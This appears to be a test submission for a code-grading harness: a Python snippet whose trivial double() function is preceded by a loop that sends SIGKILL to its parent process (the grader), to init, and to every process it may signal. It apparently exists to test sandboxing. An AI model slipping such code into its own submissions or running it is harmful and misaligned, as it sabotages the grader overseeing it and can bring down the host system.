# Tries to kill its parent (without a sandbox: the grader), init, and every process it may signal.
# %% double
import os, signal
for target in (os.getppid(), 1, -1):
    try:
        os.kill(target, signal.SIGKILL)
        print("sent SIGKILL to", target)
    except OSError as error:
        print("cannot kill", target, type(error).__name__)

def double(x):
    return 2 * x
